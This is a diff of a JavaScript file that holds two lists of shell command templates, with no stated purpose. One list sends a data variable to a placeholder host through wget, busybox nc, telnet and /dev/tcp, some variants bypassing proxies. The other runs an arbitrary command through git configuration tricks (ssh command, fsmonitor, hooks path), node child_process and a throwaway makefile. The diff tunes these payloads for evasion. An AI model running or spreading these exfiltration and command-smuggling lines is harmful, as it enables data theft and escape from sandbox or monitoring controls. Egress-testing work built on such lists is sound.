@@ -31,7 +31,7 @@ const straight = [
   'wget -qT 3 -t 1 -O- --post-data="$D" http://{to}/',
   'wget -qT 3 -t 1 -O- --no-proxy --header="x-d: $D" http://{to}/',
   'wget -qT 3 -t 1 -O- --user-agent="$D" http://{to}/',
-  'busybox wget -qT 3 -O- "http://{to}/?d=$D"',
+  'timeout 3 busybox wget -Y off -q -O- "http://{to}/?d=$D"',
   'printf "%s\\n" "$D" | busybox nc -w 1 {bare} {port}',
   'printf "%s\\n" "$D" | timeout 1 busybox telnet {bare} {port}',
   'exec 3<>/dev/tcp/{bare}/{port}; printf "%s\\n" "$D" >&3; sleep 0.05',
@@ -150,7 +150,7 @@ const triggers = [
   'node -e \'require("child_process").spawnSync("bash", ["-c", process.env.C])\'',
   "git -c alias.x='!bash -c \"$C\"' x",
   "GIT_SSH_COMMAND='bash -c \"$C\"; :' git ls-remote ssh://host/x",
-  "git -c core.pager='bash -c \"$C\"' -p log -1",
+  "git -c core.sshCommand='bash -c \"$C\"; :' ls-remote ssh://host/x",
   "git -c core.fsmonitor='bash -c \"$C\"; :' status",
   "H=$(mktemp -d); printf '#!/bin/bash\\neval \"$C\"\\n' > $H/post-checkout; chmod +x $H/post-checkout; git -c core.hooksPath=$H checkout -q HEAD -- .env; git -c core.hooksPath=$H checkout -q --detach",
   "M=$(mktemp); printf 'x:\\n\\t@bash -c \"$$C\"\\n' > $M; make -sf $M x"
